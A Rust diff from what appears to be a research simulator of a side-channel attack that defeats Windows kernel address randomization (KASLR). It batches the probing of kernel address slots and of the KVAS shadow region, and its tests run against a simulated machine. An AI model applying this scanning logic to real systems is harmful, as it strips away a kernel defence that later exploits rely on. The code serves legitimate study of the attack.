@@ -16,6 +16,7 @@ use avx_os::windows::{
 use crate::calibrate::Threshold;
 use crate::primitives::PageTableAttack;
 use crate::prober::Prober;
+use crate::sweep::AddrRange;
 
 /// Record-keeping overhead per probed candidate.
 pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 120;
@@ -50,11 +51,16 @@ impl WindowsKaslrAttack {
         }
     }
 
+    /// Candidates probed per batch while streaming the region scan.
+    pub const SCAN_CHUNK_SLOTS: u64 = 1024;
+
     /// Scans all 262144 candidates for the five-slot kernel run.
     ///
-    /// Streams slot by slot (no 262k-element allocation of raw samples
-    /// is kept) and early-exits once the run is confirmed, as the real
-    /// attack would; the paper reports ~60 ms for the full sweep.
+    /// Streams batch by batch (no 262k-element allocation of raw samples
+    /// is kept): each [`WindowsKaslrAttack::SCAN_CHUNK_SLOTS`]-candidate
+    /// chunk goes through the batched probe pipeline, and the scan
+    /// early-exits once the run is confirmed, as the real attack would;
+    /// the paper reports ~60 ms for the full sweep.
     pub fn find_kernel_region<P: Prober + ?Sized>(&self, p: &mut P) -> WindowsKaslrScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
@@ -63,24 +69,28 @@ impl WindowsKaslrAttack {
         let mut run_start: Option<u64> = None;
         let mut run_len = 0u64;
         let mut found: Option<u64> = None;
+        let mut slot = 0u64;
 
-        for slot in 0..WIN_KERNEL_SLOTS {
-            let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
-            let mapped = self.attack.is_mapped(p, addr);
-            p.spend(PER_SLOT_OVERHEAD_CYCLES);
-            if mapped {
-                mapped_slots += 1;
-                if run_start.is_none() {
-                    run_start = Some(slot);
+        let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
+        'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
+            let samples = self.attack.measure_addrs(p, &chunk.to_vec());
+            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
+            for mapped in self.attack.classify(&samples) {
+                if mapped {
+                    mapped_slots += 1;
+                    if run_start.is_none() {
+                        run_start = Some(slot);
+                    }
+                    run_len += 1;
+                    if run_len >= WIN_KERNEL_IMAGE_SLOTS {
+                        found = run_start;
+                        break 'sweep;
+                    }
+                } else {
+                    run_start = None;
+                    run_len = 0;
                 }
-                run_len += 1;
-                if run_len >= WIN_KERNEL_IMAGE_SLOTS {
-                    found = run_start;
-                    break;
-                }
-            } else {
-                run_start = None;
-                run_len = 0;
+                slot += 1;
             }
         }
 
@@ -95,7 +105,8 @@ impl WindowsKaslrAttack {
 
     /// 4 KiB-granular scan of `[window_start, window_start + pages)` for
     /// the KVAS shadow region: a mapped run of exactly
-    /// [`KVAS_SHADOW_PAGES`] pages. Returns the run start.
+    /// [`KVAS_SHADOW_PAGES`] pages. Returns the run start. Streams in
+    /// batched chunks like [`WindowsKaslrAttack::find_kernel_region`].
     pub fn find_kvas_shadow<P: Prober + ?Sized>(
         &self,
         p: &mut P,
@@ -104,21 +115,24 @@ impl WindowsKaslrAttack {
     ) -> Option<VirtAddr> {
         let mut run_start: Option<u64> = None;
         let mut run_len = 0u64;
-        for i in 0..pages {
-            let addr = window_start.wrapping_add(i * 4096);
-            let mapped = self.attack.is_mapped(p, addr);
-            p.spend(PER_SLOT_OVERHEAD_CYCLES);
-            if mapped {
-                if run_start.is_none() {
-                    run_start = Some(i);
+        let mut index = 0u64;
+        for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
+            let samples = self.attack.measure_addrs(p, &chunk.to_vec());
+            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
+            for mapped in self.attack.classify(&samples) {
+                if mapped {
+                    if run_start.is_none() {
+                        run_start = Some(index);
+                    }
+                    run_len += 1;
+                } else {
+                    if run_len == KVAS_SHADOW_PAGES {
+                        return run_start.map(|s| window_start.wrapping_add(s * 4096));
+                    }
+                    run_start = None;
+                    run_len = 0;
                 }
-                run_len += 1;
-            } else {
-                if run_len == KVAS_SHADOW_PAGES {
-                    return run_start.map(|s| window_start.wrapping_add(s * 4096));
-                }
-                run_start = None;
-                run_len = 0;
+                index += 1;
             }
         }
         if run_len == KVAS_SHADOW_PAGES {
@@ -170,7 +184,11 @@ mod tests {
     use avx_os::windows::{WindowsConfig, WindowsSystem, WindowsVersion};
     use avx_uarch::{CpuProfile, NoiseModel, OpKind};
 
-    fn prober(config: WindowsConfig, profile: CpuProfile, noise: bool) -> (SimProber, avx_os::WindowsTruth) {
+    fn prober(
+        config: WindowsConfig,
+        profile: CpuProfile,
+        noise: bool,
+    ) -> (SimProber, avx_os::WindowsTruth) {
         let sys = WindowsSystem::build(config);
         let (mut m, truth) = sys.into_machine(profile, 5);
         if !noise {
@@ -281,9 +299,7 @@ mod tests {
             let region = attack.find_kernel_region(&mut p);
             let base = region.base.expect("region found");
             let entry = attack
-                .refine_entry_point(&mut p, base, |p| {
-                    perform_syscall(p.machine_mut(), &truth)
-                })
+                .refine_entry_point(&mut p, base, |p| perform_syscall(p.machine_mut(), &truth))
                 .expect("entry located");
             assert_eq!(
                 entry,
